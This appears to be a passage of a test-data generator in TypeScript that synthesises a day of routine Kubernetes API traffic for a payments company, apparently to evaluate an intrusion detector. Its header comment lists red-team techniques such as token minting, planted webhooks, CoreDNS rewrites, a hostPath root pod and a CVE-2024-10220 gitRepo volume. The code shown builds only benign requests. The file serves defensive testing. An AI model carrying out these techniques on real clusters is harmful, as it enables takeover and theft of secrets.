import { LINUX, MAC, PLATFORM_HINT, prng, withAttacks, attackAdder, laptopAttacker, lastRequestOf, type AttackRequest, type DayEvent, type Login } from './workday.js';

/**
 * An eleventh replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–10 do not have: a Toronto payments company (UTC−5
 * in winter; hours below are UTC) with a Warsaw team (UTC+1). The scored day is Tuesday 16
 * February 2027, the day after Ontario's Family Day: the Toronto staff's history is Friday's, four
 * days old; Warsaw worked the Monday. One engineer is back from two weeks of leave (their history
 * is from Friday 29 January).
 *
 * Routine, as the tools send it:
 * - remote staff whose every request leaves through the company's secure web gateway (a
 *   Zscaler-like cloud proxy whose egress addresses, a /23 per city, many other companies share),
 *   one address of the Toronto pool per connection and the Montréal pool when Toronto's is busy;
 *   Warsaw's remote engineer through Warsaw's;
 * - a cloud development environment (a Gitpod workspace): kubectl runs on a VM started each
 *   morning, behind the workspace cluster's NAT (another address, in another /16, every day), the
 *   sign-in answered by the laptop's browser at home, which also opens Grafana;
 * - Headlamp's desktop app (Electron; its local backend forwards the app's requests to the API
 *   server with the app's agent): lists and watches, `logs -f`, a shell over WebSocket
 *   (`base64.channel.k8s.io`), a scale in dev;
 * - an incident on payments at 19:10 (14:10 in Toronto) worked by the on-call from home with
 *   `kubectl edit` (GET, then a strategic-merge patch), `kubectl set env LOG_LEVEL=debug`,
 *   `kubectl rollout status`, a shell, and `kubectl rollout undo` (the ReplicaSets listed, the
 *   previous template patched back);
 * - a Secret rotated in six namespaces by `kubectl create secret generic … --dry-run=client -o yaml
 *   | kubectl apply -f -` (kubectl apply: GET, then a strategic-merge patch carrying
 *   `last-applied-configuration`) followed by `kubectl rollout restart`;
 * - `istioctl upgrade` by the platform team at 15:30: server-side apply (`fieldManager=istio-operator`)
 *   of Istio's CRDs, ClusterRoles and bindings, webhooks, the mesh ConfigMaps, istiod and the
 *   ingress gateway, then istiod's rollout watched;
 * - a team lead reviewing sixteen namespaces read-only in k9s, morning and afternoon;
 * - CI deploying to staging every 20 minutes from the self-hosted runners.
 *
 * The attacks, each from where an outside red team would stand: an infostealer's cookies and
 * kubeconfig replayed from a residential proxy in Toronto; an attacker behind the same secure web
 * gateway (another of its tenants) minting a never-expiring service-account token by Secret; an
 * init container added to a production Deployment during the incident, handed its Secrets; CoreDNS's
 * Corefile and kube-proxy's configuration rewritten, a ValidatingAdmissionPolicy and a mutating
 * webhook planted, an APIService re-pointed, each from the platform laptop at some distance from
 * the upgrade's hardware-key sign-in; a `gitRepo` volume (CVE-2024-10220) and a hostPath `/` pod
 * in the victim's own dev namespace; a token taken from the Gitpod workspace, used from another
 * workspace behind the same NAT; malware on the lead's laptop reading Secrets in the namespaces
 * the lead only ever looked at.
 */

export const D11_LEAVE = Date.UTC(2027, 0, 29, 0, 0, 0); // Friday 29 January: the leave-taker's last day
export const D11_FRI = Date.UTC(2027, 1, 12, 0, 0, 0); // Friday 12 February: warm-up
export const D11_MON = Date.UTC(2027, 1, 15, 0, 0, 0); // Family Day in Ontario: Warsaw works, Toronto does not
export const D11_TUE = Date.UTC(2027, 1, 16, 0, 0, 0); // the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

const KUBECTL = (os: string, waw: boolean) => (waw ? `kubectl/v1.32.1 (${os}) kubernetes/e9c9be4` : `kubectl/v1.31.4 (${os}) kubernetes/a78aa47`);
/** client-go's default agent for tools whose builds stamp no version (k9s, istioctl). */
const CLIENT_GO = (bin: string, os: string) => `${bin}/v0.0.0 (${os}) kubernetes/$Format`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36`;
const CH_UA = '"Not(A:Brand";v="99", "Google Chrome";v="133", "Chromium";v="133"';
/** Headlamp desktop: its backend passes the Electron app's agent on to the API server. */
const HEADLAMP = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Headlamp/0.28.1 Chrome/130.0.6723.191 Electron/33.2.1 Safari/537.36';

const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const SSA = { 'content-type': 'application/apply-patch+yaml' };
const JSON_CT = { 'content-type': 'application/json' };
const WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v5.channel.k8s.io' };
const WS_HEADLAMP = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'base64.channel.k8s.io' };

const TEAMS = ['payments', 'ledger', 'fraud', 'search'] as const;

type Where = 'tor-office' | 'waw-office' | 'home' | 'swg' | 'gitpod';
type Kind = 'dev' | 'swg' | 'gitpod' | 'headlamp' | 'oncall' | 'rotator' | 'istio' | 'lead' | 'leave';
/** [from hour, to hour, where] in UTC. */
type Sitting = [number, number, Where];

interface Person {
  name: string;
  idx: number;
  svc: string;
  kind: Kind;
  os: string;
  kubectlOs: string;
  waw: boolean;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (name: string, kind: Kind, svc: string, warm: Sitting[], scored: Sitting[], os = MAC, waw = false) => {
    const j = () => (rand() - 0.5) * 0.3;
    out.push({
      name: `d11-${name}@example.ca`,
      idx: out.length,
      svc,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : 'linux/amd64',
      waw,
      warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]),
      scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]),
      lunch: (waw ? 11.3 : 17) + rand() * 0.4,
    });
  };
  add('dev-0', 'dev', 'payments', [[14, 22.3, 'tor-office']], [[14.1, 22.4, 'tor-office']], LINUX);
  add('dev-1', 'dev', 'ledger', [[13.6, 22, 'tor-office']], [[13.8, 22.1, 'tor-office']]);
  add('swg-0', 'swg', 'payments', [[13.8, 17.1, 'swg'], [17.8, 22.4, 'swg']], [[13.9, 17, 'swg'], [17.9, 22.3, 'swg']]);
  add('swg-1', 'swg', 'ledger', [[14.2, 22.5, 'swg']], [[14.1, 22.6, 'swg']]);
  add('swg-2', 'swg', 'fraud', [[13.5, 17.2, 'swg'], [18, 21.6, 'swg']], [[13.6, 17.1, 'swg'], [17.9, 21.7, 'swg']], LINUX);
  add('gitpod', 'gitpod', 'fraud', [[14.3, 22.6, 'gitpod']], [[14.4, 22.5, 'gitpod']]);
  add('headlamp', 'headlamp', 'ledger', [[14, 22, 'home']], [[14.2, 22.2, 'home']]);
  add('oncall', 'oncall', 'payments', [[14, 22.2, 'home']], [[14.1, 22.3, 'home']]);
  add('rotator', 'rotator', 'platform', [[14.3, 22.4, 'tor-office']], [[14.2, 22.5, 'tor-office']], LINUX);
  add('istio', 'istio', 'platform', [[13.9, 22.1, 'tor-office']], [[13.9, 22.2, 'tor-office']]);
  add('lead', 'lead', 'payments', [[14.1, 22, 'tor-office']], [[14, 22.1, 'tor-office']]);
  add('leave', 'leave', 'fraud', [[14, 22.2, 'tor-office']], [[14.3, 22.4, 'tor-office']], LINUX);
  add('waw-0', 'dev', 'ledger', [[7, 15.5, 'waw-office']], [[7.1, 15.6, 'waw-office']], LINUX, true);
  add('waw-1', 'dev', 'fraud', [[7.4, 15.8, 'home']], [[7.3, 15.9, 'home']], MAC, true);
  add('waw-2', 'swg', 'search', [[6.9, 15.2, 'swg']], [[7, 15.3, 'swg']], LINUX, true);
  return out;
}

/** The secure web gateway's egress pools (a /23 per city, shared by every tenant of the service in that city). */
const SWG_TORONTO = (n: number) => `165.225.${208 + (n % 2)}.${(n * 37) % 220 + 20}`;
const SWG_MONTREAL = (n: number) => `136.226.56.${(n * 41) % 200 + 30}`;
const SWG_WARSAW = (n: number) => `165.225.206.${(n * 29) % 200 + 40}`;
/** The Gitpod workspace cluster's NAT: a new cluster node, so another address and /16, each morning. */
const GITPOD_EGRESS: Record<number, string> = { [D11_FRI]: '34.139.12.77', [D11_TUE]: '35.196.88.143' };

function addressOf(p: Person, where: Where, day: number, sitting: number, n: number): string {
  const i = p.idx;
  switch (where) {
    case 'tor-office':
      return `10.70.${i % 4}.${40 + i}`;
    case 'waw-office':
      return `10.71.1.${30 + i}`;
    case 'home':
      // Bell and Rogers in Toronto, UPC in Warsaw: each home its own fixed address.
      return p.waw ? `89.64.${30 + i}.${100 + i}` : i % 2 ? `70.50.${100 + i}.${20 + i}` : `99.230.${60 + i}.${80 + i}`;
    case 'swg':
      if (p.waw) return SWG_WARSAW(n + i);
      // The Montréal pool in the afternoon sitting when Toronto's is busy (swg-2), Toronto's otherwise.
      return p.name.includes('swg-2') && sitting === 1 && n % 3 === 0 ? SWG_MONTREAL(n) : SWG_TORONTO(n + i * 3 + (day === D11_TUE ? 1 : 0));
    case 'gitpod':
      return GITPOD_EGRESS[day]!;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean };

const pod = (app: string, rand: () => number) => `${app}-7c9d8f-${['h2kxq', 'p8v4m', 'z6w9r', 'c3n7t'][Math.floor(rand() * 4)]}`;

/** A plain day's kubectl work in the team's namespaces. */
function appTask(rand: () => number, team: string): Req[] {
  const r = rand();
  const ns = r < 0.5 ? `${team}-dev` : r < 0.8 ? `${team}-staging` : `${team}-prod`;
  const po = pod(`${team}-api`, rand);
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=200` }];
  if (k < 0.55) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db` }];
  if (k < 0.64) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.68) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${team}-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-02-16T15:00:00Z' } } } } }) }];
  if (k < 0.8) return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** The same work as Headlamp's desktop app sends it. */
function headlampTask(rand: () => number, team: string): Req[] {
  const r = rand();
  const ns = r < 0.6 ? `${team}-dev` : r < 0.85 ? `${team}-staging` : `${team}-prod`;
  const po = pod(`${team}-api`, rand);
  const k = rand();
  const q = (x: Req): Req => ({ ...x, ua: HEADLAMP });
  if (k < 0.35)
    return [q({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods` }), q({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?watch=1&resourceVersion=${Math.floor(rand() * 9e7)}`, headers: { connection: 'Upgrade', upgrade: 'websocket' } })];
  if (k < 0.55) return [q({ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments` }), q({ method: 'GET', path: `/api/v1/namespaces/${ns}/events` })];
  if (k < 0.75) return [q({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&previous=false&tailLines=100&timestamps=true&follow=true` })];
  if (k < 0.82) return [q({ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?container=api&command=sh&command=-c&command=exec%20bash%20%7C%7C%20exec%20sh&stdin=1&stderr=1&stdout=1&tty=1`, headers: WS_HEADLAMP })];
  if (k < 0.88 && ns.endsWith('-dev')) return [q({ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${team}-api/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas: 1 + Math.floor(rand() * 3) } }) })];
  if (k < 0.92) return [q({ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db` })];
  return [q({ method: 'GET', path: '/version' }), q({ method: 'GET', path: '/apis' }), q({ method: 'GET', path: '/api/v1/namespaces' })];
}

/** The browser: Grafana's dashboards and queries, Argo CD's UI. */
function browserTask(rand: () => number, team: string): Req[] {
  if (rand() < 0.6)
    return [
      { method: 'GET', host: 'grafana.localhost', path: `/d/k8s-workloads/kubernetes-workloads?orgId=1&var-namespace=${team}-prod` },
      { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `sum(rate(http_requests_total{namespace="${team}-prod",code=~"5.."}[5m]))` }], from: 'now-1h', to: 'now' }) },
    ];
  return [
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications?projects=${team}` },
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications/${team}-prod/resource-tree?appNamespace=argocd` },
  ];
}

/** The platform engineer's everyday reads. */
function platformTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/istio-system/pods?limit=500' }, { method: 'GET', path: '/apis/apps/v1/namespaces/istio-system/deployments?limit=500' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/configmaps/coredns' }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  if (k < 0.9) return [{ method: 'GET', path: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations' }];
  return [{ method: 'GET', path: '/apis/apiregistration.k8s.io/v1/apiservices' }];
}

/** `istioctl upgrade` 1.24.2 → 1.24.3: server-side apply of the manifest, then istiod's rollout watched. */
function istioUpgrade(os: string): Req[] {
  const ua = CLIENT_GO('istioctl', os);
  const ssa = (path: string, obj: Record<string, unknown>): Req => ({ method: 'PATCH', path: `${path}?fieldManager=istio-operator&force=true`, headers: SSA, body: JSON.stringify(obj), ua });
  const labels = { 'install.operator.istio.io/owning-resource': 'installed-state', 'operator.istio.io/component': 'Base', 'operator.istio.io/version': '1.24.3' };
  const crds = ['authorizationpolicies.security.istio.io', 'destinationrules.networking.istio.io', 'envoyfilters.networking.istio.io', 'gateways.networking.istio.io', 'peerauthentications.security.istio.io', 'proxyconfigs.networking.istio.io', 'requestauthentications.security.istio.io', 'serviceentries.networking.istio.io', 'sidecars.networking.istio.io', 'telemetries.telemetry.istio.io', 'virtualservices.networking.istio.io', 'wasmplugins.extensions.istio.io', 'workloadentries.networking.istio.io', 'workloadgroups.networking.istio.io'];
  const out: Req[] = [
    { method: 'GET', path: '/version?timeout=32s', ua },
    { method: 'GET', path: '/api/v1/namespaces/istio-system', ua },
    { method: 'GET', path: '/apis/apps/v1/namespaces/istio-system/deployments?labelSelector=operator.istio.io%2Fcomponent', ua },
    ...crds.map((n) => {
      const [plural, ...g] = n.split('.');
      return ssa(`/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${n}`, { apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: n, labels }, spec: { group: g.join('.'), names: { plural, kind: plural!.replace(/s$/, '') }, scope: 'Namespaced', versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } }] } });
    }),
    ssa('/api/v1/namespaces/istio-system/serviceaccounts/istiod', { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'istiod', namespace: 'istio-system', labels } }),
    ssa('/apis/rbac.authorization.k8s.io/v1/clusterroles/istiod-clusterrole-istio-system', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'istiod-clusterrole-istio-system', labels }, rules: [{ apiGroups: ['admissionregistration.k8s.io'], resources: ['mutatingwebhookconfigurations', 'validatingwebhookconfigurations'], verbs: ['get', 'list', 'watch', 'update', 'patch'] }, { apiGroups: ['networking.istio.io', 'security.istio.io', 'telemetry.istio.io', 'extensions.istio.io'], resources: ['*'], verbs: ['get', 'watch', 'list'] }, { apiGroups: ['certificates.k8s.io'], resources: ['certificatesigningrequests', 'certificatesigningrequests/approval', 'certificatesigningrequests/status'], verbs: ['update', 'create', 'get', 'delete', 'watch'] }, { apiGroups: [''], resources: ['pods', 'nodes', 'services', 'namespaces', 'endpoints'], verbs: ['get', 'list', 'watch'] }, { apiGroups: ['authentication.k8s.io'], resources: ['tokenreviews'], verbs: ['create'] }] }),
    ssa('/apis/rbac.authorization.k8s.io/v1/clusterroles/istio-reader-clusterrole-istio-system', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'istio-reader-clusterrole-istio-system', labels }, rules: [{ apiGroups: ['networking.istio.io', 'security.istio.io'], resources: ['*'], verbs: ['get', 'list', 'watch'] }, { apiGroups: [''], resources: ['endpoints', 'pods', 'services', 'nodes', 'replicationcontrollers', 'namespaces', 'secrets'], verbs: ['get', 'list', 'watch'] }] }),
    ...['istiod-clusterrole-istio-system', 'istio-reader-clusterrole-istio-system'].map((r) => ssa(`/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${r.replace('clusterrole', 'clusterrolebinding')}`, { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: r.replace('clusterrole', 'clusterrolebinding'), labels }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: r }, subjects: [{ kind: 'ServiceAccount', name: r.startsWith('istiod') ? 'istiod' : 'istio-reader-service-account', namespace: 'istio-system' }] })),
    ssa('/apis/rbac.authorization.k8s.io/v1/namespaces/istio-system/roles/istiod', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'istiod', namespace: 'istio-system', labels }, rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['create', 'get', 'list', 'watch', 'update'] }, { apiGroups: [''], resources: ['secrets'], verbs: ['create', 'get', 'watch', 'list', 'update', 'delete'] }] }),
    ssa('/apis/rbac.authorization.k8s.io/v1/namespaces/istio-system/rolebindings/istiod', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'istiod', namespace: 'istio-system', labels }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'istiod' }, subjects: [{ kind: 'ServiceAccount', name: 'istiod', namespace: 'istio-system' }] }),
    ssa('/api/v1/namespaces/istio-system/configmaps/istio', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'istio', namespace: 'istio-system', labels }, data: { mesh: 'defaultConfig:\n  discoveryAddress: istiod.istio-system.svc:15012\nextensionProviders:\n- name: stepgate\n  envoyExtAuthzGrpc:\n    service: stepgate.stepgate.svc.cluster.local\n    port: 9001\n    includeRequestBodyInCheck:\n      maxRequestBytes: 1048576\n      allowPartialMessage: true\n', meshNetworks: 'networks: {}' } }),
    ssa('/api/v1/namespaces/istio-system/configmaps/istio-sidecar-injector', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'istio-sidecar-injector', namespace: 'istio-system', labels }, data: { values: '{"global":{"hub":"docker.io/istio","tag":"1.24.3"}}', config: 'policy: enabled\n' } }),
    ssa('/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/istio-sidecar-injector', { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'istio-sidecar-injector', labels }, webhooks: [{ name: 'namespace.sidecar-injector.istio.io', clientConfig: { service: { name: 'istiod', namespace: 'istio-system', path: '/inject', port: 443 } }, rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }], failurePolicy: 'Fail', sideEffects: 'None', admissionReviewVersions: ['v1'], namespaceSelector: { matchExpressions: [{ key: 'istio-injection', operator: 'In', values: ['enabled'] }] } }] }),
    ssa('/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/istio-validator-istio-system', { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingWebhookConfiguration', metadata: { name: 'istio-validator-istio-system', labels }, webhooks: [{ name: 'rev.validation.istio.io', clientConfig: { service: { name: 'istiod', namespace: 'istio-system', path: '/validate', port: 443 } }, rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: ['security.istio.io', 'networking.istio.io', 'telemetry.istio.io', 'extensions.istio.io'], apiVersions: ['*'], resources: ['*'] }], failurePolicy: 'Ignore', sideEffects: 'None', admissionReviewVersions: ['v1'] }] }),
    ssa('/apis/apps/v1/namespaces/istio-system/deployments/istiod', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'istiod', namespace: 'istio-system', labels }, spec: { selector: { matchLabels: { app: 'istiod' } }, template: { metadata: { labels: { app: 'istiod', 'sidecar.istio.io/inject': 'false' } }, spec: { serviceAccountName: 'istiod', containers: [{ name: 'discovery', image: 'docker.io/istio/pilot:1.24.3', args: ['discovery', '--monitoringAddr=:15014', '--log_output_level=default:info', '--domain', 'cluster.local', '--keepaliveMaxServerConnectionAge', '30m'], ports: [{ containerPort: 8080 }, { containerPort: 15010 }, { containerPort: 15017 }], securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, runAsNonRoot: true, capabilities: { drop: ['ALL'] } }, volumeMounts: [{ name: 'local-certs', mountPath: '/var/run/secrets/istio-dns' }, { name: 'istio-token', mountPath: '/var/run/secrets/tokens', readOnly: true }] }], volumes: [{ name: 'local-certs', emptyDir: { medium: 'Memory' } }, { name: 'istio-token', projected: { sources: [{ serviceAccountToken: { audience: 'istio-ca', expirationSeconds: 43200, path: 'istio-token' } }] } }, { name: 'cacerts', secret: { secretName: 'cacerts', optional: true } }] } } } }),
    ssa('/api/v1/namespaces/istio-system/services/istiod', { apiVersion: 'v1', kind: 'Service', metadata: { name: 'istiod', namespace: 'istio-system', labels }, spec: { selector: { app: 'istiod' }, ports: [{ name: 'grpc-xds', port: 15010 }, { name: 'https-dns', port: 15012 }, { name: 'https-webhook', port: 443, targetPort: 15017 }] } }),
    ssa('/apis/autoscaling/v2/namespaces/istio-system/horizontalpodautoscalers/istiod', { apiVersion: 'autoscaling/v2', kind: 'HorizontalPodAutoscaler', metadata: { name: 'istiod', namespace: 'istio-system', labels }, spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'istiod' }, minReplicas: 2, maxReplicas: 5 } }),
    ssa('/apis/policy/v1/namespaces/istio-system/poddisruptionbudgets/istiod', { apiVersion: 'policy/v1', kind: 'PodDisruptionBudget', metadata: { name: 'istiod', namespace: 'istio-system', labels }, spec: { minAvailable: 1, selector: { matchLabels: { app: 'istiod' } } } }),
    ssa('/apis/apps/v1/namespaces/istio-ingress/deployments/istio-ingressgateway', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'istio-ingressgateway', namespace: 'istio-ingress', labels }, spec: { selector: { matchLabels: { istio: 'ingressgateway' } }, template: { metadata: { labels: { istio: 'ingressgateway', 'sidecar.istio.io/inject': 'true' }, annotations: { 'inject.istio.io/templates': 'gateway' } }, spec: { serviceAccountName: 'istio-ingressgateway-service-account', containers: [{ name: 'istio-proxy', image: 'auto', securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true, capabilities: { drop: ['ALL'] } } }] } } } }),
  ];
  // The wait: istioctl polls istiod's and the gateway's Deployments until they are ready.
  for (let k = 0; k < 4; k++) out.push({ method: 'GET', path: '/apis/apps/v1/namespaces/istio-system/deployments/istiod', ua }, { method: 'GET', path: '/apis/apps/v1/namespaces/istio-ingress/deployments/istio-ingressgateway', ua });
  return out;
}

/** `kubectl create secret generic stripe-api-key … --dry-run=client -o yaml | kubectl apply -f -`, then `kubectl rollout restart`. */
function rotate(ns: string, app: string, rand: () => number): Req[] {
  const key = Buffer.from(`rk_live_${Math.floor(rand() * 1e12).toString(36)}`).toString('base64');
  const applied = JSON.stringify({ apiVersion: 'v1', data: { 'api-key': key }, kind: 'Secret', metadata: { creationTimestamp: null, name: 'stripe-api-key', namespace: ns } });
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/stripe-api-key` },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/secrets/stripe-api-key?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: SMP, body: JSON.stringify({ data: { 'api-key': key }, metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${applied}\n` } } }) },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${app}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-02-16T16:31:07Z' } } } } }) },
  ];
}

/** The incident on payments-api: edit, set env, rollout status, a shell, then rollout undo. */
function incident(ns: string): Req[] {
  const dep = `/apis/apps/v1/namespaces/${ns}/deployments/payments-api`;
  const template = (image: string) => ({ metadata: { labels: { app: 'payments-api' } }, spec: { containers: [{ name: 'api', image, env: [{ name: 'DB_HOST', value: 'payments-db.payments-prod.svc' }, { name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'payments-db', key: 'password' } } }], resources: { limits: { memory: '1Gi' } } }] } });
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` },
    { method: 'GET', path: `${dep}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dpayments-api` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-api-7c9d8f-h2kxq/log?container=api&tailLines=200` },
    // kubectl edit: the object, then the diff as a strategic-merge patch.
    { method: 'GET', path: dep },
    { method: 'PATCH', path: `${dep}?fieldManager=kubectl-edit`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { $setElementOrder: { containers: [{ name: 'api' }] }, containers: [{ name: 'api', resources: { limits: { memory: '2Gi' } } }] } } } }) },
    // kubectl set env deploy/payments-api LOG_LEVEL=debug
    { method: 'GET', path: dep },
    { method: 'PATCH', path: `${dep}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { $setElementOrder: { containers: [{ name: 'api' }] }, containers: [{ $setElementOrder: { env: [{ name: 'DB_HOST' }, { name: 'DB_PASSWORD' }, { name: 'LOG_LEVEL' }] }, env: [{ name: 'LOG_LEVEL', value: 'debug' }], name: 'api' }] } } } }) },
    // kubectl rollout status
    { method: 'GET', path: dep },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3Dpayments-api&resourceVersion=0&watch=true` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-api-7c9d8f-p8v4m` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-api-7c9d8f-p8v4m/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/events?fieldSelector=involvedObject.name%3Dpayments-api-7c9d8f-p8v4m` },
    // kubectl rollout undo: the Deployment, its ReplicaSets, the previous template patched back.
    { method: 'GET', path: dep },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/replicasets?labelSelector=app%3Dpayments-api` },
    { method: 'PATCH', path: `${dep}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ metadata: { annotations: { 'deployment.kubernetes.io/revision': '57' } }, spec: { template: { $patch: 'replace', ...template('ghcr.io/example-ca/payments-api:v4.18.2') } } }) },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3Dpayments-api&resourceVersion=0&watch=true` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-api-7c9d8f-z6w9r/log?container=api&follow=true` },
  ];
}

/** Sixteen namespaces, read in k9s: pods, Deployments, events. */
const REVIEWED = TEAMS.flatMap((t) => [`${t}-dev`, `${t}-staging`, `${t}-prod`]).concat(['data-prod', 'data-staging', 'notifications-prod', 'notifications-staging']);
function leadReview(os: string): Req[] {
  const ua = CLIENT_GO('k9s', os);
  return REVIEWED.flatMap((ns) => [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500`, ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?allowWatchBookmarks=true&resourceVersion=0&watch=true`, ua },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500`, ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500`, ua },
  ]);
}

export function workday11(seed = 91): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 11);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D11_LEAVE, D11_FRI, D11_MON, D11_TUE]) {
    const scored = day === D11_TUE;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : day === D11_LEAVE ? (p.kind === 'leave' ? p.warm : []) : day === D11_MON ? (p.waw ? p.warm : []) : p.kind === 'leave' ? [] : p.warm;
      if (sittings.length === 0) continue;
      const mine: DayEvent[] = [];
      // One sign-in a day, 40 s before the first request (the Gitpod workspace's answered in the laptop's browser).
      const login: Login = { sub: p.name, sid: `${p.name}:${day}`, authTime: Math.floor((at(sittings[0]![0]) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
      let n = 0;
      sittings.forEach(([from, to, where], si) => {
